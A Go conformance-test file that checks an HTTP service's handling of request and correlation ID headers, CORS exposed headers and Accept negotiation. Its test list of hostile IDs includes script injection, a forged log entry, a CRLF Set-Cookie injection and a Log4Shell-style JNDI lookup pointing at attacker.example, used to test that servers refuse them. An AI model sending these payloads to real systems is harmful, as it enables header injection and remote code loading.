package conformance

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
)

// Scenarios about request fields.

// hostile are IDs that no server may take from a client.
var hostile = []string{
	strings.Repeat("x", 4<<10),
	`<script>alert(1)</script>`,
	`"},{"level":"error","message":"forged`,
	"two words",
	"%0d%0aSet-Cookie:%20a=b",
	"caf\xc3\xa9",
	"\xff\xfe",
	`${jndi:ldap://attacker.example/a}`,
}

func hostileIDs(p *probe) {
	if p.model.request == "" && p.model.correlate == "" {
		p.inapplicable("the contract has no ID headers", "request-id", "correlation-id", "ids")
		return
	}
	if p.model.request == "" {
		p.inapplicable("the contract has no request ID", "request-id")
	}
	if p.model.correlate == "" {
		p.inapplicable("the contract has no correlation ID", "correlation-id")
	}
	// A request ID is the server's: not even a safe one of the client's is sent
	// back.
	chosen := "chosen-by-the-client-" + randomWord()
	for _, id := range append(slices.Clone(hostile), chosen) {
		r := get(p.missing())
		if p.model.request != "" {
			r = r.with(p.model.request, id)
		}
		if p.model.correlate != "" && id != chosen {
			r = r.with(p.model.correlate, id)
		}
		a := p.do(r)
		if a.status == 0 {
			p.require("ids", false, a, "", "an answer")
			continue
		}
		if p.model.request != "" {
			p.require("request-id", !slices.Contains(a.header[p.model.request], id), a, "", "another %s than that of the client", p.model.request)
		}
		if p.model.correlate != "" && id != chosen {
			p.require("correlation-id", !slices.Contains(a.header[p.model.correlate], id), a, "", "another %s than that of the client", p.model.correlate)
		}
		a.correlation = false // what is sent back has to be a new one
		p.ids(a, nil)
	}
}

func correlation(p *probe) {
	header := p.model.correlate
	if header == "" {
		p.inapplicable("the contract has no correlation ID", "accepted", "body")
		return
	}
	shown := false
	for _, id := range []string{"550e8400-e29b-41d4-a716-446655440000", "adk-6ba7b810-9dad-11d1-80b4-00c04fd430c8", "4bf92f3577b34da6a3ce929d0e0e4736"} {
		a := p.do(get(p.missing()).with(header, id))
		p.require("accepted", slices.Equal(a.header[header], []string{id}), a, "", "%s: %s", header, id)
		if c, _, ok := p.model.form.read(a.body); ok && c.correlationID != "" {
			shown = true
			p.require("body", c.correlationID == id, a, "the body has "+c.correlationID, "%s in the body", id)
		}
	}
	if !shown {
		p.inapplicable("the body shows no correlation ID", "body")
	}
}

func cors(p *probe) {
	if p.model.contract.NoExposeHeaders {
		p.inapplicable("the contract exposes no headers", "exposed")
		return
	}
	a := p.do(get(p.missing()).with("Origin", "https://client.example"))
	if a.status == 0 {
		p.require("exposed", false, a, "", "an answer")
		return
	}
	exposed := elements(a.header, "Access-Control-Expose-Headers")
	applied := false
	for _, name := range []string{p.model.request, p.model.correlate, "Retry-After"} {
		if name != "" && len(a.header[name]) > 0 {
			applied = true
			p.require("exposed", containsFold(exposed, name) || slices.Contains(exposed, "*"), a, "",
				"Access-Control-Expose-Headers with %s: a script of another origin cannot read it otherwise", name)
		}
	}
	if !applied {
		p.unexercised("the response has no ID header")
	}
}

// elements returns the elements of a list field.
func elements(h http.Header, name string) (all []string) {
	for _, line := range h[http.CanonicalHeaderKey(name)] {
		for e := range strings.SplitSeq(line, ",") {
			all = append(all, strings.TrimSpace(e))
		}
	}
	return all
}

func containsFold(all []string, name string) bool {
	return slices.ContainsFunc(all, func(e string) bool { return strings.EqualFold(e, name) })
}

// accepts is an Accept, and whether the alternative is asked for by it.
type accepts struct {
	value string
	other bool
}

func negotiation(p *probe) {
	cases := []accepts{{"text/html", false}, {"application/xml;q=0.9, image/*", false}, {"*/*", false}, {"not a media type", false}}
	if p.model.other == nil {
		p.inapplicable("the contract has no alternative", "vary")
	} else {
		own, other := p.model.form.contentType(), p.model.other.contentType()
		cases = append(cases, accepts{own, false}, accepts{other, true}, accepts{other + ", */*;q=0.1", true},
			accepts{other + ";q=0.5, " + own, false}, accepts{own + ";q=0.5, " + other, true})
	}
	x := p.notFoundExpected()
	x.pairs = nil // it may be 406 as well
	for _, c := range cases {
		a := p.do(get(p.missing()).with("Accept", c.value))
		if a.status == 0 {
			p.require("alternative", false, a, "", "an answer")
			continue
		}
		form := p.model.form
		if c.other {
			form = p.model.other
		}
		got := a.header.Get("Content-Type")
		p.require("alternative", isType(got, form.contentType()), a, fmt.Sprintf("Content-Type is %q", got), "%s for Accept: %s", form.contentType(), c.value)
		if p.model.other != nil {
			vary := elements(a.header, "Vary")
			p.require("vary", containsFold(vary, "Accept") || slices.Contains(vary, "*"), a, "", "Vary: Accept")
		}
		if isType(got, form.contentType()) {
			p.failureIn(form, a, x)
		}
	}
}
